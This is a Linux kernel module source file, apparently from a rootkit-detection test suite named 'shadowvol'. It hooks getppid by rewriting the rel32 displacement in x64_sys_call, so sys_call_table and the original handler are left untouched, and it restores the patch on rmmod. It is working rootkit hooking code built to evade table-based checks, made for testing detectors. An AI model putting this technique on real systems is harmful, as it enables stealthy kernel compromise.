// SPDX-License-Identifier: GPL-2.0
/* Test rootkit: patches the x64_sys_call() dispatch switch (Linux 6.9, and
 * backported to stable kernels). The switch ends each case in a direct
 * "jmp/call rel32 __x64_sys_<name>"; the case of getppid is re-pointed at
 * this module's replacement, so the handler and sys_call_table stay intact.
 * rmmod restores the original displacement. */
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/mm.h>
#include <linux/vmalloc.h>

#include "rk_common.h"
#include "rk_marker.h"

#define RK_TARGET "__x64_sys_getppid"
#define RK_SCAN 8192 /* bytes of x64_sys_call searched */

static unsigned char *rk_site; /* the rel32 operand patched */
static s32 rk_saved;

static int __init rk_dispatch_init(void)
{
	unsigned char *start = (unsigned char *)rk_lookup_name("x64_sys_call");
	unsigned long target = rk_lookup_name(RK_TARGET);
	long rel;
	s32 new;
	int i;

	if (!start || !target)
		return -ENOENT;
	for (i = 0; i < RK_SCAN - 5 && !rk_site; i++) {
		if ((start[i] == 0xe9 || start[i] == 0xe8) &&
		    (unsigned long)(start + i + 5) + *(s32 *)(start + i + 1) == target)
			rk_site = start + i + 1;
	}
	if (!rk_site)
		return -ESRCH;
	rel = (long)rk_getppid - (long)(rk_site + 4);
	if (rel != (s32)rel)
		return -ERANGE;
	new = (s32)rel;
	rk_saved = *(s32 *)rk_site;
	pr_info("rk_dispatch: x64_sys_call+%#lx -> %px\n", (unsigned long)(rk_site - 1 - start), rk_getppid);
	return rk_poke(rk_site, &new, sizeof(new));
}

static void __exit rk_dispatch_exit(void)
{
	rk_poke(rk_site, &rk_saved, sizeof(rk_saved));
	synchronize_rcu();
}

module_init(rk_dispatch_init);
module_exit(rk_dispatch_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("shadowvol test rootkit: x64_sys_call dispatch patch");
